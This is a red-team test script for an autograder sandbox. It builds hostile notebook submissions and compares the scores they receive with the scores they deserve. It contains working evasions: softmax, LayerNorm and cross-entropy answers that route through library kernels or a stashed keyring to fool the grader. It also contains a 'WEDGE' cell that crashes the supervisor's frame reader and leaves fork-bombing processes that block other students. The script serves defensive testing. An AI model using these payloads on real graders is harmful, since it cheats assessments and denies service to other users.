"""Red-team reproducers: build a small class of hostile submissions, grade it in the sandbox,
print the score obtained vs the score deserved for every attacked question.

    .venv/bin/python -m bench.redteam.attacks [ROOT] [--only NAME ...] [--jobs 1]

Each attack is a notebook made from the course's solutions (or exercises) with cells replaced
or inserted (tests/grading_students.py). "deserved" is what an honest grader should give:
the attacked answer does not implement what the exercise asks.
"""
from __future__ import annotations

import argparse
import csv
import subprocess
import sys
import tempfile
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(REPO / "tests"))
import grading_students as S  # noqa: E402 - tests/ is put on sys.path just above

from bench.redteam import keyring_cells as K  # noqa: E402 - after the sys.path line, kept with its sibling

SDPA_SOFTMAX = '''
def softmax(x, dim=-1):
    # no exp/max/sum: the library attention kernel computes the softmax (q = e0, k = x e0, v = I)
    xt = x.movedim(dim, -1)
    shape, n = xt.shape, xt.shape[-1]
    flat = xt.reshape(-1, n)
    rows = flat.shape[0]
    q = torch.zeros(rows, 1, 1, n, dtype=x.dtype)
    q[..., 0] = 1
    k = torch.zeros(rows, 1, n, n, dtype=x.dtype)
    k[..., 0] = flat.reshape(rows, 1, n)
    v = torch.eye(n, dtype=x.dtype).expand(rows, 1, n, n)
    out = F.scaled_dot_product_attention(q, k, v, scale=1.0)
    return out.reshape(shape).movedim(-1, dim)
'''

LN_TEMPLATE = '''
class LayerNorm(nn.Module):
    def __init__(self, dim, eps=1e-5):
        super().__init__()
        self.eps = eps
        self.weight = nn.Parameter(torch.ones(dim))
        self.bias = nn.Parameter(torch.zeros(dim))

    def forward(self, x):
        shape, d = x.shape, x.shape[-1]
{body}
        return y.reshape(shape) * self.weight + self.bias
'''

LN_BN_UPDATE = LN_TEMPLATE.format(body='''\
        flat = x.reshape(1, -1, d)            # every row a "channel": batch norm over it = layer norm
        rows = flat.shape[1]
        y = torch.ops.aten._batch_norm_with_update(flat, torch.ones(rows, dtype=x.dtype), torch.zeros(rows, dtype=x.dtype),
                                                   torch.zeros(rows, dtype=x.dtype),
                                                   torch.ones(rows, dtype=x.dtype), 0.1, self.eps)[0]''')

LN_NESTED = LN_TEMPLATE.format(body='''\
        nt = torch.nested.nested_tensor([x.reshape(-1, d)]) if not x.requires_grad else \\
            torch.nested.as_nested_tensor([x.reshape(-1, d)])
        ones, zeros = torch.ones(d, dtype=x.dtype), torch.zeros(d, dtype=x.dtype)
        y = getattr(torch.ops.aten, "native_" + "layer_norm")(nt, [d], ones, zeros, self.eps)[0].unbind()[0]''')

LN_BN_OUT = LN_TEMPLATE.format(body='''\
        flat = x.reshape(1, -1, d)
        rows = flat.shape[1]
        y = torch.empty_like(flat)
        torch.ops.aten.native_batch_norm.out(flat, None, None, None, None, True, 0.1, self.eps, out=y,
                                             save_mean=torch.empty(rows, dtype=x.dtype),
                                             save_invstd=torch.empty(rows, dtype=x.dtype))''')


# a cell that makes the zygote stop watching this run (a frame header nested so deep that
# json.loads raises RecursionError, which the zygote's frame reader once did not catch), then leaves processes of
# the job's student uid alive: the next students of the same job cannot fork (RLIMIT_NPROC)
WEDGE = r'''
import os, struct, signal, time
_head = b"[" * 100000 + b"]" * 100000
os.write(3, struct.pack(">I", len(_head)) + _head + struct.pack(">I", 0))
signal.signal(signal.SIGALRM, signal.SIG_IGN)
for _ in range(40):
    try:
        if os.fork() == 0:
            while True:
                time.sleep(1000)
    except OSError:
        break
while True:
    time.sleep(1000)
'''


def _sol(assignment):
    return S.load(assignment, "solutions")


def attacks():
    """name -> (assignment, build() -> notebook, {qid: deserved score} for the attacked questions)."""
    out = {}

    def add(name, assignment, deserved, edit):
        out[name] = (assignment, lambda: edit(_sol(assignment)), deserved)

    add("honest03", "03_attention", {}, lambda nb: nb)
    add("aaa_wedge", "03_attention", {"softmax": 0.0, "attention": 0.0, "attention_head": 0.0},
        lambda nb: S.insert_cell(nb, WEDGE))
    add("zzz_victim03", "03_attention", {}, lambda nb: nb)
    add("zzz_victim05", "05_blocks", {}, lambda nb: nb)
    add("sdpa_softmax", "03_attention", {"softmax": 0.0},
        lambda nb: S.replace_definition(S.replace_definition(nb, "softmax", SDPA_SOFTMAX),
                                        "scaled_dot_product_attention", S.ATTENTION_WITH_PRIVATE_SOFTMAX))
    add("ln_bn_update", "05_blocks", {"layernorm": 0.0},
        lambda nb: S.replace_definition(nb, "LayerNorm", LN_BN_UPDATE))
    add("ln_nested", "05_blocks", {"layernorm": 0.0},
        lambda nb: S.replace_definition(nb, "LayerNorm", LN_NESTED))
    add("ln_bn_out", "05_blocks", {"layernorm": 0.0},
        lambda nb: S.replace_definition(nb, "LayerNorm", LN_BN_OUT))

    def ce_keyring(nb):
        S.insert_cell(nb, K.KEYRING)                          # after the imports
        S.replace_definition(nb, "cross_entropy", CE_STASH_AND_READ)
        return nb
    add("ce_keyring", "07_vit", {"cross_entropy": 0.0}, ce_keyring)
    # an honest student who deleted the demo lines below their cross_entropy
    add("honest_ce_nodemo", "07_vit", {},
        lambda nb: S.replace_definition(nb, "cross_entropy", HONEST_CE_NO_DEMO))
    return out


CE_STASH_AND_READ = K.STASH_CE + K.CE_FROM_KEYRING + (
    "\n\nlogits, targets = torch.randn(4, 10), torch.tensor([1, 0, 9, 3])\n")

HONEST_CE_NO_DEMO = '''
def cross_entropy(logits, targets):
    shifted = logits - logits.amax(dim=-1, keepdim=True)
    log_probs = shifted - torch.log(torch.exp(shifted).sum(dim=-1, keepdim=True))
    return -log_probs[torch.arange(logits.shape[0]), targets].mean()
'''


def build(root: Path, names) -> dict:
    table = attacks()
    chosen = {n: table[n] for n in (names or table)}
    for name, (assignment, make, _) in chosen.items():
        S.write(make(), root, name, assignment)
    return chosen


def grade(root: Path, jobs: int = 1, timeout: int = 30) -> subprocess.CompletedProcess:
    cmd = [sys.executable, "-m", "autograder", "grade", str(root), "--jobs", str(jobs), "--timeout", str(timeout),
           "--no-progress"]
    return subprocess.run(cmd, capture_output=True, text=True, cwd=REPO)


def report(root: Path, chosen: dict) -> list[tuple]:
    import autograder
    with open(root / "grades.csv", newline="", encoding="utf-8") as fh:
        rows = {(r["student"], r["assignment"], r["question"]): r for r in csv.DictReader(fh)}
    lines = []
    for name, (assignment, _, deserved) in chosen.items():
        for q in autograder.questions(assignment):
            row = rows.get((name, assignment, q.id))
            got = float(row["score"]) if row else None
            want = deserved.get(q.id, float(q.points))
            verdict = "missing row" if row is None else ("HOLE" if got > want else "ok" if got == want else "LOST")
            lines.append((name, q.id, got, want, verdict, (row or {}).get("reason", "")[:150]))
    return lines


def main(argv=None):
    parser = argparse.ArgumentParser()
    parser.add_argument("root", nargs="?")
    parser.add_argument("--only", nargs="*")
    parser.add_argument("--jobs", type=int, default=1)
    parser.add_argument("--timeout", type=int, default=30)
    args = parser.parse_args(argv)
    root = Path(args.root or tempfile.mkdtemp(prefix="redteam-"))
    chosen = build(root, args.only)
    proc = grade(root, args.jobs, args.timeout)
    if proc.returncode:
        print(proc.stdout[-3000:], proc.stderr[-3000:])
    print(f"root: {root}")
    for line in report(root, chosen):
        print("%-14s %-16s got %-5s deserved %-5s %-6s %s" % line)


if __name__ == "__main__":
    main()
